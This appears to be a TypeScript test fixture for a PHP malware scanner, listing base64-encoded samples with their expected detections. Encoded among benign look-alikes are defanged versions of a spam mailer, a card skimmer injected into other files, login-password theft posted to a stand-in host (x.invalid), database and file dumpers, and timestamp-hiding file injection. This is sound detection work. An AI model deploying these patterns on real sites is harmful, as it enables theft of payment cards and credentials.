import type { Sample } from '../types.ts'

/** What is taken away or put in: mail, addresses, databases, files, cards; and honest code that looks like it. */
export const takenSamples: readonly Sample[] = [
  {
    name: 'mail to one after the other of a list that is sent',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGFsbCA9IGV4cGxvZGUoIlxuIiwgJF9QT1NUWydlbWFpbHMnXSk7IGZvcmVhY2ggKCRhbGwgYXMgJHRvKSB7IG1haWwoJHRvLCAkX1BPU1RbJ3N1YmplY3QnXSwgJF9QT1NUWydib2R5J10sICdGcm9tOiAnIC4gJF9QT1NUWydmcm9tJ10pOyB9',
    expect: ['php-request-mail'],
  },
  {
    name: 'an address nobody finds',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGggPSAiXHg3N1x4NzdceDc3XHgyZVx4NzhceDJlXHg2OVx4NmVceDc2XHg2MVx4NmNceDY5XHg2NCI7ICRzID0gZnNvY2tvcGVuKCRoLCA4MCk7IGZwdXRzKCRzLCAneCcpOw==',
    expect: ['php-tool'],
  },
  {
    name: 'a mailbox nobody finds',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgbWFpbChiYXNlNjRfZGVjb2RlKCdlRUI0TG1sdWRtRnNhV1E9JyksICduZXcnLCAneCcpOw==',
    expect: ['php-tool'],
  },
  {
    name: 'all that is sent, laid aside',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZmlsZV9wdXRfY29udGVudHMoJ3Bvc3QudHh0JywganNvbl9lbmNvZGUoJF9SRVFVRVNUKSAuICJcbiIsIEZJTEVfQVBQRU5EKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'code put into other files, which get their old dates back',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZm9yZWFjaCAoc2NhbmRpcigkX1NFUlZFUlsnRE9DVU1FTlRfUk9PVCddKSBhcyAkZikgeyAkdCA9IGZpbGVtdGltZSgkZik7ICRkID0gZmlsZV9nZXRfY29udGVudHMoJGYpOyBmaWxlX3B1dF9jb250ZW50cygkZiwgJ3gnIC4gJGQpOyB0b3VjaCgkZiwgJHQpOyB9',
    expect: ['php-tool'],
  },
  {
    name: 'every table of a database, for whoever asks',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgc2V0X3RpbWVfbGltaXQoMCk7ICRjID0gbXlzcWxfY29ubmVjdCgnbG9jYWxob3N0JywgJ3UnLCAncCcpOyAkdCA9ICRfR0VUWyd0J107ICRyID0gbXlzcWxfcXVlcnkoJ1NFTEVDVCAqIEZST00gYCcgLiAkdCAuICdgIExJTUlUIDEwJyk7IHdoaWxlICgkYSA9IG15c3FsX2ZldGNoX3JvdygkcikpIHsgZWNobyBqb2luKCcsJywgJGEpOyB9',
    expect: ['php-tool'],
  },
  {
    name: 'every folder and every file, for whoever asks',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGQgPSAkX0dFVFsnZmlsZSddOyBpZiAoaXNfZGlyKCRkKSkgeyAkaCA9IG9wZW5kaXIoJGQpOyB3aGlsZSAoJGYgPSByZWFkZGlyKCRoKSkgeyBlY2hvICRmOyB9IH0gZWxzZSB7ICRoID0gZm9wZW4oJGQsICdyJyk7IGVjaG8gZnJlYWQoJGgsIDk5OTkpOyB9',
    expect: ['php-tool'],
  },
  {
    name: 'cards sent away by a program that is put into other files',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGNvZGUgPSA8PDxDT0RFCmlmIChpc3NldChcJF9QT1NUWydwYXltZW50J10pKSB7IFwkcCA9IFwkX1BPU1RbJ3BheW1lbnQnXVsnY2NfbnVtYmVyJ10gLiAnfCcgLiBcJF9QT1NUWydwYXltZW50J11bJ2NjX2NpZCddOyBtYWlsKCd4QHguaW52YWxpZCcsICduJywgXCRwKTsgfQpDT0RFOwpmaWxlX3B1dF9jb250ZW50cygneC5waHAnLCBzdHJfcmVwbGFjZSgneScsICRjb2RlLCBmaWxlX2dldF9jb250ZW50cygneC5waHAnKSkpOw==',
    expect: ['php-writes-code'],
  },
  {
    name: 'a mailbox of letters out of a table',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHIgPSBhcnJheSgnMScgPT4gJ3gnLCAnMicgPT4gJ0AnLCAnMycgPT4gJy4nLCAnNCcgPT4gJ2knLCAnNScgPT4gJ24nLCAnNicgPT4gJ3YnKTsgJHRvID0gJHJbJzEnXS4kclsnMiddLiRyWycxJ10uJHJbJzMnXS4kclsnNCddLiRyWyc1J10uJHJbJzYnXTsgbWFpbCgkdG8sICRfU0VSVkVSWydIVFRQX0hPU1QnXSwgJ3gnKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'what somebody typed to come in, posted elsewhere',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgY2xhc3MgQSB7IGZ1bmN0aW9uIGxvZ2luKCkgeyAkbCA9ICR0aGlzLT5nZXRSZXF1ZXN0KCktPmdldFBvc3QoJ2xvZ2luJyk7ICRtID0gJ3A9JyAuICRsWydwYXNzd29yZCddOyAkYyA9IGN1cmxfaW5pdCgpOyBjdXJsX3NldG9wdCgkYywgQ1VSTE9QVF9VUkwsICdodHRwOi8veC5pbnZhbGlkL3UnKTsgY3VybF9zZXRvcHQoJGMsIENVUkxPUFRfUE9TVEZJRUxEUywgJG0pOyBjdXJsX2V4ZWMoJGMpOyB9IH0=',
    expect: ['php-tool'],
  },
  {
    name: 'tells somebody by mail where it lies',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHYgPSAkX1NFUlZFUlsnUkVNT1RFX0FERFInXTsgJHcgPSAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkknXTsgaWYgKCRfQ09PS0lFWydzZWVuJ10gPT0gJycpIG1haWwoJ3hAeC5pbnZhbGlkJywgJ25ldycsICdhdCBodHRwOi8vJyAuICR3IC4gJyBieSAnIC4gJHYpOw==',
    expect: ['php-tool'],
  },
  {
    name: 'tells another machine where it lies',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGcgPSAnL3U/Zz0nIC4gYmluMmhleCgkX1NFUlZFUlsnSFRUUF9IT1NUJ10pIC4gJyZzPScgLiBiaW4yaGV4KCRfU0VSVkVSWydQSFBfU0VMRiddKTsgJHMgPSBmc29ja29wZW4oJ3guaW52YWxpZCcsIDgwKTsgZnB1dHMoJHMsICdHRVQgJyAuICRnKTs=',
    expect: ['php-tool'],
  },
  {
    name: 'answers between the marks a remote control looks for',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgQHNldF90aW1lX2xpbWl0KDApOyBlY2hvICctPnwnOyBlY2hvICRfU0VSVkVSWydTQ1JJUFRfRklMRU5BTUUnXSAuICJcdCIgLiBwaHBfdW5hbWUoKTsgZWNobyAnfDwtJzsgZGllKCk7',
    expect: ['php-tool'],
  },
  {
    name: 'names in pieces, one after the other',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGEgPSAnYmFzZTY0Jy4nX2RlY29kZSc7ICRiID0gJGEoJ2FHVnNiRzg9Jyk7ICRjID0gJ2d6aW5mbCcuJ2F0ZSc7ICRkID0gJGMoJ3gnKTsgJGUgPSAnc3RyXycuJ3JvdDEzJzsgJGYgPSAkZSgndXJ5eWInKTs=',
    expect: ['php-hidden-call'],
  },
  {
    name: 'what is sent to a payment, noted by a part of a shop',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgaW5jbHVkZSAnY29uZmlnLnBocCc7IGZpbGVfcHV0X2NvbnRlbnRzKCdpcG4ubG9nJywgcHJpbnRfcigkX1BPU1QsIHRydWUpLCBGSUxFX0FQUEVORCk7IGVjaG8gJ09LJzs=',
    expect: [],
  },
  {
    name: 'a page with a script and a form, and no code before it',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PGh0bWw+PGhlYWQ+PHNjcmlwdD52YXIgJHggPSAkKCcjeScpOyBpZiAoJHgubGVuZ3RoKSB7ICR4LmhpZGUoKTsgfTwvc2NyaXB0PjwvaGVhZD48Ym9keT48P3BocCBlY2hvIGh0bWxzcGVjaWFsY2hhcnMoJF9QT1NUWyd4J10pOyA/PjwvYm9keT48L2h0bWw+',
    expect: [],
  },
  {
    name: 'a newsletter behind a login',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgc2Vzc2lvbl9zdGFydCgpOyBpZiAoZW1wdHkoJF9TRVNTSU9OWydhZG1pbiddKSkgZXhpdDsgZm9yZWFjaCAoZXhwbG9kZSgiXG4iLCBmaWxlX2dldF9jb250ZW50cygnbGlzdC50eHQnKSkgYXMgJHRvKSB7IG1haWwodHJpbSgkdG8pLCAkX1BPU1RbJ3N1YmplY3QnXSwgJF9QT1NUWydib2R5J10pOyB9',
    expect: [],
  },
  {
    name: 'an archive unpacked, each file with its date',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgY2xhc3MgQXJjaGl2ZSB7IGZ1bmN0aW9uIGV4dHJhY3QoJGRpciwgJGxpc3QpIHsgZm9yZWFjaCAoJGxpc3QgYXMgJGUpIHsgJHBhdGggPSAkZGlyIC4gJy8nIC4gJGVbJ25hbWUnXTsgZmlsZV9wdXRfY29udGVudHMoJHBhdGgsICRlWydkYXRhJ10pOyB0b3VjaCgkcGF0aCwgJGVbJ210aW1lJ10pOyB9IH0gfQ==',
    expect: [],
  },
  {
    name: 'a picture of a page, written as addresses are',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJHN2ZyA9ICdkYXRhOmltYWdlL3N2Zyt4bWwsJTNDc3ZnJTIweG1sbnM9JTI3aHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmclMjclMjB3aWR0aD0lMjcyNCUyNyUyMGhlaWdodD0lMjcyNCUyNyUzRSUzQ3BhdGglMjBkPSUyN00wJTIwMCUyNy8lM0UlM0Mvc3ZnJTNFJzsgZWNobyAnPGltZyBzcmM9IicgLiAkc3ZnIC4gJyI+Jzs=',
    expect: [],
  },
  {
    name: 'a card given to a bank whose address is a setting',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgY2xhc3MgUGF5IHsgZnVuY3Rpb24gcGF5KCkgeyAkcCA9ICR0aGlzLT5nZXRSZXF1ZXN0KCktPmdldFBvc3QoJ3BheW1lbnQnKTsgJGMgPSBjdXJsX2luaXQoKTsgY3VybF9zZXRvcHQoJGMsIENVUkxPUFRfVVJMLCAkdGhpcy0+Z2V0Q29uZmlnRGF0YSgnZ2F0ZXdheScpKTsgY3VybF9zZXRvcHQoJGMsIENVUkxPUFRfUE9TVEZJRUxEUywgaHR0cF9idWlsZF9xdWVyeSgkcCkpOyByZXR1cm4gY3VybF9leGVjKCRjKTsgfSB9',
    expect: [],
  },
  {
    name: 'a page that tells its owner what was not found',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgaGVhZGVyKCdIVFRQLzEuMCA0MDQgTm90IEZvdW5kJyk7IG1haWwoJ3dlYm1hc3RlckBleGFtcGxlLm9yZycsICc0MDQnLCAnaHR0cDovLycgLiAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkknXSk7IGVjaG8gJ05vdCBmb3VuZCc7',
    expect: [],
  },
  {
    name: 'somebody else, asked by his plain address',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJGMgPSBjdXJsX2luaXQoJ2h0dHBzOi8vYXBpLmV4YW1wbGUub3JnL3YxJyk7IGN1cmxfc2V0b3B0KCRjLCBDVVJMT1BUX1BPU1RGSUVMRFMsIGpzb25fZW5jb2RlKGFycmF5KCdhJyA9PiAxKSkpOyAkciA9IGN1cmxfZXhlYygkYyk7IG1haWwoJ3dlYm1hc3RlckBleGFtcGxlLm9yZycsICdkb25lJywgJ29rJyk7',
    expect: [],
  },
  {
    name: 'a page of what somebody laid where anybody may lay texts',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHQgPSBmaWxlX2dldF9jb250ZW50cygiaHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L3p6enp6eiIpOyAkaCA9IGZvcGVuKCRfU0VSVkVSWyJET0NVTUVOVF9ST09UIl0gLiAiL2EuaHRtbCIsICJ3Iik7IGZ3cml0ZSgkaCwgJHQpOw==',
    expect: ['php-remote-code'],
  },
  {
    name: 'news of somebody else, kept',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHQgPSBmaWxlX2dldF9jb250ZW50cygiaHR0cHM6Ly9mZWVkcy5leGFtcGxlLm5ldC9uZXdzLnhtbCIpOyAkaCA9IGZvcGVuKCJjYWNoZS9uZXdzLnhtbCIsICJ3Iik7IGZ3cml0ZSgkaCwgJHQpOw==',
    expect: [],
  },
]
